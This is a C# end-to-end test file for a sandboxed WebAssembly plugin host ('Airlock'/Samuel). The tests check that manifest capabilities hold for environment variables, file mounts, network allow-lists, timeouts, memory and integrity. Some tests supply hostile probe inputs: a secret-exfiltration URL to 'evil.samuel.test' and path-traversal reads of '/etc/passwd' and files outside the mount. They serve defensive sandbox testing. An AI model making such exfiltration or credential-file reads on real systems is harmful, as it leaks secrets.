using System.Diagnostics;
using System.Text.Json;
using Airlock.Auditing;
using Airlock.Contracts.Samuel;
using Airlock.Samuel;
using Samples.SamuelHello;

namespace Airlock.EndToEnd.Tests.Samuel;

/// <summary>
/// Real Samuel plugins (samuel-hello in C, samuel-lint in Rust) under the capabilities of their manifests: each
/// capability allowed and refused, the soft and hard deadlines, the log limit, installation, and the typed contract.
/// </summary>
public sealed class SamuelPluginTests(SamuelWorld world) : IClassFixture<SamuelWorld>
{
    private static async Task<JsonElement> Probe(SamuelPlugin plugin, string json)
    {
        using var input = JsonDocument.Parse(json);
        return (await plugin.InvokeAsync("probe", input.RootElement)).Clone();
    }

    [Fact]
    public async Task Greet_is_called_by_name_with_json_in_and_out()
    {
        await using SamuelPlugin plugin = await world.Loader().LoadAsync(world.HelloFolder("hello-greet"));
        using var input = JsonDocument.Parse("""{"name":"Wörld \"quoted\""}""");

        JsonElement answer = await plugin.InvokeAsync("greet", input.RootElement);

        Assert.Equal("Hello, Wörld \"quoted\"!", answer.GetProperty("greeting").GetString());
        Assert.Equal(["greet", "probe"], plugin.Exports);
    }

    [Fact]
    public async Task The_c_plugin_loads_typed_with_the_contract_its_bindings_were_generated_from()
    {
        await using ISamuelHello hello = await world.Loader().LoadAsync<ISamuelHello>(world.HelloFolder("hello-typed-c"));

        GreetReply reply = await hello.GreetAsync(new GreetRequest("Wörld \"quoted\""));
        JsonElement logged = await hello.ProbeAsync(new ProbeRequest("log") { Count = 2 });
        PluginErrorException missing = await Assert.ThrowsAsync<PluginErrorException>(() => hello.ProbeAsync(new ProbeRequest("read")).AsTask());
        PluginErrorException unknown = await Assert.ThrowsAsync<PluginErrorException>(() => hello.ProbeAsync(new ProbeRequest("format")).AsTask());

        Assert.Equal("Hello, Wörld \"quoted\"!", reply.Greeting);
        Assert.Equal(2, logged.GetProperty("logged").GetInt32());
        Assert.Equal("bad_input", missing.Code);
        Assert.Contains("\"path\" must be a string", missing.Message, StringComparison.Ordinal);
        Assert.Equal("bad_input", unknown.Code);
    }

    [Fact]
    public async Task The_environment_holds_only_the_declared_keys_with_the_hosts_values()
    {
        Environment.SetEnvironmentVariable("SAMUEL_TEST_GRANTED", "granted value");
        Environment.SetEnvironmentVariable("SAMUEL_TEST_HIDDEN", "hidden value");
        await using SamuelPlugin granted = await world.Loader().LoadAsync(world.HelloFolder("hello-env", """
            [capabilities]
            env = ["SAMUEL_TEST_GRANTED", "SAMUEL_TEST_UNSET"]
            """));
        await using SamuelPlugin none = await world.Loader().LoadAsync(world.HelloFolder("hello-noenv"));

        JsonElement env = await Probe(granted, """{"op":"env"}""");
        JsonElement empty = await Probe(none, """{"op":"env"}""");

        Assert.Equal(["SAMUEL_TEST_GRANTED=granted value"], env.GetProperty("env").EnumerateArray().Select(e => e.GetString()));
        Assert.Empty(empty.GetProperty("env").EnumerateArray());
    }

    [Fact]
    public async Task A_read_only_mount_is_readable_and_refuses_writes()
    {
        await using SamuelPlugin plugin = await world.Loader().LoadAsync(world.HelloFolder("hello-read", """
            [capabilities.filesystem]
            read = ["/workspace"]
            """));
        string before = File.ReadAllText(Path.Combine(world.Workspace, "a.txt"));

        JsonElement read = await Probe(plugin, """{"op":"read","path":"/workspace/a.txt"}""");
        JsonElement list = await Probe(plugin, """{"op":"list","path":"/workspace"}""");
        JsonElement write = await Probe(plugin, """{"op":"write","path":"/workspace/a.txt","text":"overwritten"}""");
        JsonElement create = await Probe(plugin, """{"op":"write","path":"/workspace/new.txt"}""");

        Assert.True(read.GetProperty("ok").GetBoolean());
        Assert.Equal(before.Length, read.GetProperty("bytes").GetInt32());
        Assert.Contains("a.txt", list.GetProperty("names").EnumerateArray().Select(n => n.GetString()));
        Assert.False(write.GetProperty("ok").GetBoolean());
        Assert.Contains(write.GetProperty("errno").GetInt32(), PermissionErrnos);
        Assert.False(create.GetProperty("ok").GetBoolean());
        Assert.Contains(create.GetProperty("errno").GetInt32(), PermissionErrnos);
        Assert.Equal(before, File.ReadAllText(Path.Combine(world.Workspace, "a.txt")));
        Assert.False(File.Exists(Path.Combine(world.Workspace, "new.txt")));
    }

    // WASI's EPERM, EACCES, EROFS and ENOTCAPABLE.
    private static readonly int[] PermissionErrnos = [63, 2, 69, 76];

    [Fact]
    public async Task A_writable_mount_takes_writes()
    {
        Directory.CreateDirectory(Path.Combine(world.Root, "scratch"));
        await using SamuelPlugin plugin = await world.Loader().LoadAsync(world.HelloFolder("hello-write", """
            [capabilities.filesystem]
            write = ["/scratch"]
            """));

        JsonElement write = await Probe(plugin, """{"op":"write","path":"/scratch/out.txt","text":"from the plugin"}""");

        Assert.True(write.GetProperty("ok").GetBoolean());
        Assert.Equal("from the plugin", File.ReadAllText(Path.Combine(world.Root, "scratch", "out.txt")));
    }

    [Theory]
    [InlineData("/etc/passwd")]
    [InlineData("/workspace/../outside/secret.txt")]
    [InlineData("/outside/secret.txt")]
    [InlineData("/")]
    public async Task A_path_outside_the_mounts_is_invisible(string path)
    {
        await using SamuelPlugin plugin = await world.Loader().LoadAsync(world.HelloFolder("hello-outside", """
            [capabilities.filesystem]
            read = ["/workspace"]
            """));

        JsonElement read = await Probe(plugin, $$"""{"op":"read","path":"{{path}}"}""");
        JsonElement list = await Probe(plugin, $$"""{"op":"list","path":"{{path}}"}""");

        Assert.False(read.GetProperty("ok").GetBoolean());
        Assert.False(list.GetProperty("ok").GetBoolean());
    }

    [Fact]
    public async Task Without_a_filesystem_grant_nothing_is_visible()
    {
        await using SamuelPlugin plugin = await world.Loader().LoadAsync(world.HelloFolder("hello-nofs"));

        JsonElement read = await Probe(plugin, """{"op":"read","path":"/workspace/a.txt"}""");

        Assert.False(read.GetProperty("ok").GetBoolean());
    }

    [Fact]
    public async Task A_mount_whose_host_directory_is_missing_refuses_the_plugin_naming_the_field()
    {
        string folder = world.HelloFolder("hello-nomount", """
            [capabilities.filesystem]
            read = ["/workspace", "/does-not-exist-on-this-host"]
            """);

        var error = await Assert.ThrowsAsync<PluginManifestException>(() => world.Loader().LoadAsync(folder));

        Assert.Contains("capabilities.filesystem.read[1]", error.Message, StringComparison.Ordinal);
        Assert.Contains("does not exist", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_listed_host_is_reached_and_a_host_outside_the_list_is_refused_and_audited()
    {
        await using SamuelPlugin plugin = await world.Loader().LoadAsync(world.HelloFolder("hello-net", """
            [capabilities.network]
            hosts = ["rules.samuel.test"]
            """));

        JsonElement allowed = await Probe(plugin, """{"op":"net","url":"https://rules.samuel.test/rules"}""");
        JsonElement refused = await Probe(plugin, """{"op":"net","url":"https://evil.samuel.test/steal?key=secret"}""");
        world.Audit.Flush();
        IReadOnlyList<AuditEntry> audit = world.Audit.Query("hello-net");

        Assert.Equal(200, allowed.GetProperty("status").GetInt32());
        Assert.Contains("fix", allowed.GetProperty("body").GetString(), StringComparison.Ordinal);
        Assert.Equal(-2, refused.GetProperty("status").GetInt32());
        Assert.Contains(audit, e => e.Action == "network.net_outbound" && e.Allowed && e.Target.Contains("rules.samuel.test", StringComparison.Ordinal));
        AuditEntry denied = Assert.Single(audit, e => e.Action == "network.net_outbound" && !e.Allowed);
        Assert.Contains("evil.samuel.test", denied.Target, StringComparison.Ordinal);
        Assert.DoesNotContain("secret", denied.Target, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Without_a_network_block_every_host_is_refused_and_audited()
    {
        await using SamuelPlugin plugin = await world.Loader().LoadAsync(world.HelloFolder("hello-nonet"));

        JsonElement refused = await Probe(plugin, """{"op":"net","url":"https://rules.samuel.test/rules"}""");
        world.Audit.Flush();

        Assert.Equal(-2, refused.GetProperty("status").GetInt32());
        Assert.Contains(world.Audit.Query("hello-nonet"), e => e.Action == "network.net_outbound" && !e.Allowed && e.Detail!.Contains("no network capability", StringComparison.Ordinal));
    }

    [Fact]
    public async Task The_soft_deadline_reaches_the_plugin_and_the_call_goes_on_past_it()
    {
        await using SamuelPlugin plugin = await world.Loader().LoadAsync(world.HelloFolder("hello-soft", """
            [runtime]
            timeout = "300ms"
            hard_timeout = "10s"
            """));

        JsonElement early = await Probe(plugin, """{"op":"soft"}""");
        await Probe(plugin, """{"op":"sleep","ms":1}""");
        JsonElement slept = await Probe(plugin, """{"op":"sleep","ms":400}""");

        long remaining = early.GetProperty("soft_deadline_ms").GetInt64();
        Assert.InRange(remaining, 1, 300);
        Assert.True(slept.GetProperty("slept").GetBoolean());
    }

    [Fact]
    public async Task The_linter_stops_at_its_soft_deadline_with_what_it_has()
    {
        await using ISamuelLinter linter = await world.Loader().LoadAsync<ISamuelLinter>(LintFolder(timeout: "200ms"));
        for (int i = 0; i < 5; i++)
        {
            File.WriteAllText(Path.Combine(world.Workspace, $"slow-{i}.txt"), "fine\n");
        }

        SamuelLintReport report = await linter.LintAsync(new SamuelLintRequest("/workspace") { DelayMsPerFile = 150 });

        Assert.True(report.Truncated);
        Assert.NotNull(report.StoppedAt);
    }

    [Fact]
    public async Task The_hard_timeout_kills_the_call_with_a_typed_error()
    {
        await using SamuelPlugin plugin = await world.Loader().LoadAsync(world.HelloFolder("hello-hard", """
            [runtime]
            timeout = "100ms"
            hard_timeout = "500ms"
            """));
        var watch = Stopwatch.StartNew();

        var error = await Assert.ThrowsAsync<PluginTimeoutException>(() => Probe(plugin, """{"op":"sleep","ms":60000}"""));
        JsonElement after = await Probe(plugin, """{"op":"soft"}""");

        Assert.InRange(watch.Elapsed, TimeSpan.FromMilliseconds(450), TimeSpan.FromMilliseconds(500) + Security.WasiHostileCases.DeadlineSlack);
        Assert.Equal("probe", error.Export);
        Assert.True(after.GetProperty("soft_deadline_ms").GetInt64() > 0);
    }

    [Fact]
    public async Task Memory_beyond_max_memory_is_a_clean_error()
    {
        await using SamuelPlugin plugin = await world.Loader().LoadAsync(world.HelloFolder("hello-memory", """
            [runtime]
            max_memory = 1
            """));

        // A greeting for a name larger than one MiB needs more memory than the plugin may have.
        string name = new('x', 2 * 1024 * 1024);
        using var input = JsonDocument.Parse($$"""{"name":"{{name}}"}""");
        Exception error = await Assert.ThrowsAnyAsync<AirlockException>(async () => await plugin.InvokeAsync("greet", input.RootElement));

        Assert.True(error is PluginMemoryLimitException or GuestAllocationException or PluginInputTooLargeException, error.ToString());
    }

    [Fact]
    public async Task Samuel_log_is_limited_to_ten_lines_a_second_and_counts_what_it_drops()
    {
        await using SamuelPlugin plugin = await world.Loader().LoadAsync(world.HelloFolder("hello-log"));

        JsonElement logged = await Probe(plugin, """{"op":"log","count":100}""");
        world.Audit.Flush();

        Assert.Equal(100, logged.GetProperty("logged").GetInt32());
        Assert.InRange(plugin.DroppedLogLines, 85, 90);
        Assert.Contains(world.Audit.Query("hello-log"), e => e.Action == "log.suppressed");
    }

    [Fact]
    public async Task A_trap_is_a_typed_error_and_the_plugin_serves_on()
    {
        await using SamuelPlugin plugin = await world.Loader().LoadAsync(world.HelloFolder("hello-trap"));

        await Assert.ThrowsAsync<PluginTrapException>(() => Probe(plugin, """{"op":"trap"}"""));
        JsonElement after = await Probe(plugin, """{"op":"soft"}""");

        Assert.True(after.TryGetProperty("soft_deadline_ms", out _));
    }

    [Fact]
    public async Task The_linter_reads_its_mount_its_env_setting_and_its_rules_and_reports_findings()
    {
        Environment.SetEnvironmentVariable("LINT_MAX_LINE", "12");
        File.WriteAllText(Path.Combine(world.Workspace, "a.txt"), "short line\ntrailing space   \n\tTODO fix this\n");
        await using ISamuelLinter linter = await world.Loader().LoadAsync<ISamuelLinter>(LintFolder());

        SamuelLintReport report = await linter.LintAsync(new SamuelLintRequest("/workspace") { RulesUrl = "https://rules.samuel.test/rules" });

        Assert.Equal(12, report.MaxLine);
        Assert.False(report.Truncated);
        Assert.Contains(report.Findings, f => f.File == "/workspace/a.txt" && f.Line == 2);
        Assert.Contains(report.Findings, f => f.Rule.Contains("todo", StringComparison.OrdinalIgnoreCase));
        Assert.Contains(report.Findings, f => f.Message.Contains("fix", StringComparison.Ordinal) && f.Rule.Contains("ban", StringComparison.OrdinalIgnoreCase));
        Assert.Contains(world.Requests, r => r.StartsWith("GET /rules", StringComparison.Ordinal));
    }

    [Fact]
    public async Task The_linters_fix_is_refused_by_its_read_only_mount()
    {
        File.WriteAllText(Path.Combine(world.Workspace, "a.txt"), "trailing space   \n");
        await using ISamuelLinter linter = await world.Loader().LoadAsync<ISamuelLinter>(LintFolder());

        SamuelLintReport report = await linter.LintAsync(new SamuelLintRequest("/workspace") { Fix = true });

        SamuelWriteError refused = Assert.Single(report.WriteErrors ?? [], e => e.File == "/workspace/a.txt");
        Assert.Equal("PermissionDenied", refused.Kind);
        Assert.Equal("trailing space   \n", File.ReadAllText(Path.Combine(world.Workspace, "a.txt")));
    }

    [Fact]
    public async Task Installing_records_the_sha256_and_a_changed_module_is_refused_at_load()
    {
        string plugins = Path.Combine(world.Root, "installed-" + Guid.NewGuid().ToString("N"));
        SamuelPlugins loader = world.Loader();

        SamuelInstallation installed = await loader.InstallAsync(world.HelloFolder("hello-install"), plugins);
        await using (SamuelPlugin plugin = await loader.LoadAsync(installed.Directory))
        {
            Assert.Equal(installed.Sha256, plugin.Info.ModuleSha256);
        }

        string lockText = File.ReadAllText(Path.Combine(plugins, "samuel-plugins.lock.json"));
        File.AppendAllText(Path.Combine(installed.Directory, "samuel-hello.wasm"), "\0");
        var error = await Assert.ThrowsAsync<PluginLoadException>(() => loader.LoadAsync(installed.Directory));

        Assert.Contains(installed.Sha256, lockText, StringComparison.Ordinal);
        Assert.Contains("changed since it was installed", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_typed_contract_needs_its_exports_declared_in_the_manifest()
    {
        var error = await Assert.ThrowsAsync<PluginManifestException>(() => world.Loader().LoadAsync<ISamuelLinter>(world.HelloFolder("hello-typed")));

        Assert.Contains("wasm.exports", error.Message, StringComparison.Ordinal);
        Assert.Contains("'lint'", error.Message, StringComparison.Ordinal);
    }

    // The linter's folder with its module and a manifest of its own (the soft timeout given).
    private string LintFolder(string timeout = "5s")
    {
        string folder = Path.Combine(world.Root, "plugins-src", "lint-" + Guid.NewGuid().ToString("N")[..8]);
        Directory.CreateDirectory(folder);
        File.Copy(Path.Combine(SamuelWorld.LintFolder, "samuel-lint.wasm"), Path.Combine(folder, "samuel-lint.wasm"));
        string manifest = File.ReadAllText(Path.Combine(SamuelWorld.LintFolder, "samuel-plugin.toml")).Replace("timeout = \"5s\"", $"timeout = \"{timeout}\"", StringComparison.Ordinal);
        File.WriteAllText(Path.Combine(folder, "samuel-plugin.toml"), manifest);
        return folder;
    }
}
